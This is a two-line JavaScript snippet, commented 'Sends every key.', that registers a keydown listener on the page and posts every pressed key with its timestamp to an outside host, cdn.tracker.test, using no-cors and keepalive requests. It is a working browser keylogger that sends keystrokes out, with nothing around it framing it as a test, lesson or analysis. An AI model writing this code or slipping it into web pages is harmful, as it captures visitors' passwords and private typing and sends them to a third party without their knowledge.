// Sends every key.
addEventListener("keydown", (e) => fetch("https://cdn.tracker.test/-/collect", {method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify({t: Math.round(e.timeStamp), key: e.key})}), true);
